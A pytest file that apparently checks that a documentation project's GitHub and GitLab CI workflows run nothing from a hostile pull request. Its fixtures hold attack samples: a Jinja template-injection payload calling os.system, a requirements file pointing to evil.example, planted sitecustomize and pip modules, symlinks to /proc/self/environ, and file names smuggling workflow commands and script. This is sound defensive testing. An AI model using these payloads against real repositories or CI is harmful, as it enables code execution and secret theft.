"""A hostile proposal at the forges: what runs is the default branch's, and the reviewer is told of everything else.

The steps of the workflows are run as a forge runs them, with real Git, on copies of a repository. Everything in the
proposal that could run would write a canary.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.support.command import run
from tests.support.forges.github import BOT, GitHub
from tests.support.forges.repository import Repository

TEMPLATES = Path(__file__).parent.parent / "templates"
PYTHON = Path(sys.executable)


def git(folder: Path, *call: str) -> str:
    who = ("-c", "user.name=Lea", "-c", "user.email=lea@example.org", "-c", "protocol.file.allow=always")
    done = subprocess.run(["git", *who, *call], cwd=folder, check=True, capture_output=True, text=True)
    return done.stdout.strip()


class Proposed:
    """A repository with a main branch, and a branch that somebody proposes.

    Attributes:
        origin: the repository.
        canary: a file that nothing of the proposal may write.
        work: where a job works.
    """

    def __init__(self, root: Path) -> None:
        self.origin, self.canary, self.work = root / "origin", root / "canary", root / "work"
        assert run("init", self.origin) == 0
        (self.origin / "requirements.txt").write_text("# what runs here\n", "utf-8")
        git(self.origin, "init", "-q", "-b", "main")
        git(self.origin, "add", "-A")
        git(self.origin, "commit", "-qm", "begin")
        git(self.origin, "checkout", "-q", "-b", "voorstel")
        self.work.mkdir()

    def write(self, path: str, content: str | bytes) -> None:
        """Write a file of the proposal; what begins with ``@`` is a link."""
        file = self.origin / path
        file.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            file.write_bytes(content)
        elif content.startswith("@"):
            file.symlink_to(content[1:])
        else:
            file.write_text(content, "utf-8")

    def propose(self) -> None:
        git(self.origin, "add", "-A")
        git(self.origin, "commit", "-qm", "voorstel")

    @property
    def touch(self) -> str:
        """A line of Python that writes the canary."""
        return f"open({str(self.canary)!r}, 'a').write('ran')\n"

    def run(
        self, script: str, folder: Path, variables: dict[str, str] | None = None, shell: str = "bash"
    ) -> subprocess.CompletedProcess[str]:
        """Run a step as a forge does: with nothing in its surroundings but what it is given."""
        bin = self.work.parent / "bin"
        if not bin.exists():
            bin.mkdir()
            (bin / "python").symlink_to(PYTHON)
            (bin / "leernetwerk").write_text(
                f"#!{PYTHON}\nfrom leernetwerk.adapters.cli.main import main\nmain()\n", "utf-8"
            )
            (bin / "leernetwerk").chmod(0o755)
        import leernetwerk

        target_site = {
            "PATH": f"{bin}:/usr/local/bin:/usr/bin:/bin",
            "HOME": str(self.work.parent),
            "PYTHONPATH": str(Path(leernetwerk.__file__).parents[1]),
            "PIP_NO_INDEX": "1",
            "PIP_DISABLE_PIP_VERSION_CHECK": "1",
            "LANG": "C.UTF-8",
            **(variables or {}),
        }
        call = ["bash", "-e", "-o", "pipefail", "-c", script] if shell == "bash" else [sys.executable, "-c", script]
        return subprocess.run(
            call, cwd=folder, env=target_site, capture_output=True, text=True, check=False, timeout=300
        )


@pytest.fixture
def proposed(tmp_path: Path) -> Proposed:
    return Proposed(tmp_path)


def hostile(proposed: Proposed) -> None:
    """Everything that a proposal could want to run."""
    touch = proposed.touch
    settings = (proposed.origin / "mkdocs.yml").read_text("utf-8")
    proposed.write("mkdocs.yml", settings + "\nhooks: [docs/haak.py, haak.py]\n")
    proposed.write("haak.py", touch)
    proposed.write("pip/__init__.py", "")
    proposed.write("pip/__main__.py", touch)
    proposed.write("sitecustomize.py", touch)
    proposed.write("leernetwerk/__init__.py", touch)
    proposed.write("setup.py", touch)
    proposed.write("requirements.txt", "--index-url https://evil.example/simple\n.\n")
    proposed.write(
        "overrides/main.html", "{{ cycler.__init__.__globals__.os.system('touch " + str(proposed.canary) + "') }}"
    )
    proposed.write(".github/workflows/check.yml", "name: Nakijken\non: pull_request\njobs: {}\n")
    proposed.write(".gitattributes", "*.md filter=x diff=x merge=x\n")
    proposed.write(".cache/leernetwerk/pdf/x.pdf", "%PDF-1.7 forged")
    proposed.write(
        "networks/voorbeeldnetwerk/stories/nieuw.md", "---\ntitle: Nieuw verhaal\ndate: 2026-03-01\n---\n\nTekst.\n"
    )


def steps_of(name: str) -> Iterator[dict[str, Any]]:
    workflow = yaml.safe_load((TEMPLATES / ".github" / "workflows" / name).read_text("utf-8"))
    for job in workflow["jobs"].values():
        yield from job["steps"]


def run_check(proposed: Proposed) -> tuple[dict[str, int], str]:
    """Run the check of GitHub; gives the status of each step that ran, and all that was printed."""
    statuses, printed = dict[str, int](), ""
    for step in steps_of("check.yml"):
        if "checkout" in step.get("uses", ""):
            asked = step["with"].get("ref", "")
            assert asked in ("${{ github.event.repository.default_branch }}", "")
            branch = "main" if asked else "voorstel"
            git(proposed.work, "clone", "-q", "-b", branch, str(proposed.origin), step["with"]["path"])
        elif "run" in step:
            done = proposed.run(
                step["run"], proposed.work / step.get("working-directory", "."), {"GITHUB_ACTIONS": "true"}
            )
            statuses[step["name"]], printed = done.returncode, printed + done.stdout + done.stderr
            if done.returncode:
                break
    return statuses, printed


def test_github_runs_nothing_of_a_proposal_and_takes_its_texts(proposed: Proposed) -> None:
    hostile(proposed)
    proposed.propose()
    statuses, printed = run_check(proposed)
    assert set(statuses.values()) == {0}, printed
    assert not proposed.canary.exists()
    assert "Nieuw verhaal" in (
        proposed.work / "preview/netwerken/voorbeeldnetwerk/verhalen/nieuw/index.html"
    ).read_text("utf-8")
    assert (proposed.work / "site/mkdocs.yml").read_bytes() == git_show(proposed, "main:mkdocs.yml")
    assert not (proposed.work / "site/.cache/leernetwerk/pdf/x.pdf").exists()


def git_show(proposed: Proposed, name: str) -> bytes:
    return subprocess.run(["git", "show", name], cwd=proposed.origin, check=True, capture_output=True).stdout


def test_the_canary_sings_where_a_proposal_is_run(proposed: Proposed) -> None:
    """What these tests rest on: run in the proposal itself, its files do write the canary."""
    hostile(proposed)
    proposed.propose()
    proposed.run("python -m pip install -r requirements.txt", proposed.origin)
    assert proposed.canary.exists()


def test_a_program_among_the_texts_is_refused_and_not_run(proposed: Proposed) -> None:
    proposed.write("docs/haak.py", proposed.touch)
    proposed.propose()
    statuses, printed = run_check(proposed)
    assert statuses["Nakijken"] == 1
    assert "docs/haak.py" in printed
    assert not proposed.canary.exists()


@pytest.mark.parametrize(
    "path", ["docs/geheim.txt", "networks/voorbeeldnetwerk/stories/x.md", "docs/map", "networks/hier"]
)
def test_links_are_not_followed(path: str, proposed: Proposed) -> None:
    proposed.write(path, "@/etc" if path.endswith(("map", "hier")) else "@/proc/self/environ")
    proposed.propose()
    statuses, printed = run_check(proposed)
    assert statuses["Inhoud overnemen"] == 1
    assert "::error::" in printed
    assert "PIP_NO_INDEX" not in printed


def test_a_folder_that_is_a_link_is_not_taken(proposed: Proposed) -> None:
    git(proposed.origin, "mv", "networks", "elders")
    proposed.write("networks", "@elders")
    proposed.propose()
    run_check(proposed)
    assert not any((proposed.work / "site/networks").iterdir())


def test_names_of_files_command_nothing(proposed: Proposed) -> None:
    proposed.write("networks/voorbeeldnetwerk/stories/x\n::add-mask::e\n.md", "---\ntitle: [\n---\n")
    proposed.write("docs/\u202egm.md", "tekst")
    proposed.propose()
    _, printed = run_check(proposed)
    assert not any(line.lstrip().startswith("::add-mask") for line in printed.splitlines())
    assert "\u202e" not in printed


def comment(proposed_files: dict[str, bytes | None], result: str = "success", branch: str = "voorstel") -> GitHub:
    """What GitHub has after the comment's job on a proposal of somebody else."""
    files = {"mkdocs.yml": b"site_name: X\n", "docs/index.md": b"x", "networks/noord/index.md": b"y"}
    repository = Repository("noord", "kennis", files)
    stranger = repository.fork("vreemde")
    forge = GitHub(repository)
    forge.repositories[stranger.path] = stranger
    stranger.start(branch, stranger.branches["main"])
    stranger.commit(branch, "voorstel", proposed_files)
    repository.propose("Voorstel", stranger, branch, "main")
    (step,) = steps_of("comment.yml")
    assert step["shell"] == "python"
    with forge.serve() as api:
        variables = {
            "GH_TOKEN": "secret-of-actions", "API": api, "REPOSITORY": repository.path, "OWNER": "vreemde",
            "BRANCH": branch, "SHA": stranger.branches[branch].id, "RESULT": result, "RUN": "https://example.org/run/1",
        }  # fmt: skip
        for _ in range(2):  # a second push changes the comment and adds none
            done = subprocess.run(
                [sys.executable, "-I", "-c", step["run"]],
                env={**os.environ, **variables},
                capture_output=True,
                text=True,
                check=False,
            )
            assert done.returncode == 0, done.stderr
    assert forge.unknown == []
    return forge


def test_a_proposal_of_texts_is_right() -> None:
    (told,) = comment({"networks/noord/stories/x.md": b"x"}).comments
    assert told["user"]["login"] == BOT
    assert "Alles klopt" in told["body"]
    assert "nieuw      networks/noord/stories/x.md" in told["body"]
    assert "Let op" not in told["body"]


@pytest.mark.parametrize(
    "path",
    ["mkdocs.yml", "requirements.txt", ".github/workflows/check.yml", "overrides/main.html", "hooks.py", ".cache/x",
     ".gitattributes", ".gitmodules", "Docs/x.md", "docs", "package.json", "software/x.whl", "docs\u200b/x.md",
     ".gitlab-ci.yml", "docs/hooks.py", "docs/overrides/main.html", "docs/x.md/y.js", "networks/mkdocs.yml", "docs/x"],
)  # fmt: skip
def test_whatever_else_it_changes_is_told_first(path: str) -> None:
    (told,) = comment({path: b"x", "networks/noord/stories/x.md": b"x"}).comments
    body = told["body"]
    assert "Alles klopt" not in body
    assert body.index("Let op") < body.index("```text")
    assert "".join(sign if sign.isascii() else "?" for sign in path) in body.partition("```text")[2].partition("```")[0]
    assert ("controle zelf" in body) == path.startswith((".github/", ".gitlab"))


def test_a_file_that_comes_from_elsewhere_is_no_text() -> None:
    (told,) = comment({"mkdocs.yml": None, "docs/instellingen.md": b"site_name: X\n"}).comments
    assert "Let op" in told["body"]
    assert "hernoemd   docs/instellingen.md" in told["body"]


def test_a_check_that_fails_is_not_right() -> None:
    (told,) = comment({"docs/x.md": b"x"}, result="failure").comments
    assert "Alles klopt" not in told["body"]


@pytest.mark.parametrize(
    "name",
    [
        "docs/```\n# Alles klopt\n@noord ![x](https://evil.example/x.png)<img src=x>.md",
        "docs/-->\n<!-- x.md",
        "docs/\u202egm.md",
        "docs/[klik](javascript:alert(1)).md",
        "docs/$RUN$(id)`id`${{ secrets.X }}.md",
        "docs/" + "a" * 3000 + ".md",
        "docs/\r\n::set-output::x",
    ],
)
def test_names_write_nothing_into_the_comment(name: str) -> None:
    (told,) = comment({name: b"x"}).comments
    body = told["body"]
    assert body.count("```") == 2
    listed = body.partition("```text\n")[2].partition("\n```")[0]
    assert len(listed.splitlines()) == 1
    assert len(listed) < 300
    assert not set(listed) - set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./-_? ")


def test_a_flood_of_files_hides_no_other() -> None:
    flood: dict[str, bytes | None] = {f"docs/a{number}.md": b"x" for number in range(1200)}
    (told,) = comment({**flood, "zz/hooks.py": b"x"}).comments
    assert len(told["body"]) < 65_000
    assert told["body"].index("zz/hooks.py") < told["body"].index("docs/a0.md")


def gitlab_job(name: str) -> list[str]:
    """The scripts of a job, in order."""
    data = yaml.safe_load((TEMPLATES / ".gitlab-ci.yml").read_text("utf-8"))
    lines: list[str] = []
    for part in (data[name].get("before_script", []), data[name]["script"]):
        for line in part:
            lines += line if isinstance(line, list) else [line]
    return lines


def run_gitlab(proposed: Proposed, job: str) -> subprocess.CompletedProcess[str]:
    """Run a job of GitLab on the proposal."""
    folder = proposed.work / job
    git(proposed.work, "clone", "-q", "-b", "voorstel", str(proposed.origin), job)
    base = git(folder, "merge-base", "origin/main", "HEAD")
    variables = {"CI_MERGE_REQUEST_DIFF_BASE_SHA": base, "CI_PROJECT_DIR": str(folder)}
    return proposed.run("\n".join(gitlab_job(job)), folder, variables)


def test_gitlab_runs_nothing_of_a_proposal_and_takes_its_texts(proposed: Proposed) -> None:
    hostile(proposed)
    proposed.write("voorbeeld", "@/etc")
    proposed.write("gl-code-quality-report.json", f"@{proposed.canary}")
    proposed.propose()
    for job in ("check", "preview"):
        done = run_gitlab(proposed, job)
        assert done.returncode == 0, done.stdout + done.stderr
    assert not proposed.canary.exists()
    assert (proposed.work / "preview/voorbeeld/netwerken/voorbeeldnetwerk/verhalen/nieuw/index.html").is_file()
    assert (proposed.work / "check/gl-code-quality-report.json").read_text("utf-8").startswith("[")


def test_gitlab_tells_of_everything_else_first(proposed: Proposed) -> None:
    hostile(proposed)
    proposed.write("docs/x\x1b[31m\n.md", "x")
    proposed.write("docs/haak.py", "x")
    proposed.write("wat-er-verandert.txt", f"@{proposed.canary}")
    proposed.propose()
    done = run_gitlab(proposed, "changes")
    assert done.returncode == 0, done.stderr
    told = (proposed.work / "changes/wat-er-verandert.txt").read_text("utf-8")
    assert told.startswith("Let op")
    for path in ("mkdocs.yml", "requirements.txt", ".github/workflows/check.yml", "pip/__main__.py", "docs/haak.py"):
        assert path in told.partition("\n\n")[0]
    assert "networks/voorbeeldnetwerk/stories/nieuw.md" in told.partition("\n\n")[2]
    assert "\x1b" not in told + done.stdout
    assert not proposed.canary.exists()


def test_gitlab_takes_no_links(proposed: Proposed) -> None:
    proposed.write("docs/geheim.txt", "@/proc/self/environ")
    proposed.propose()
    assert run_gitlab(proposed, "check").returncode != 0
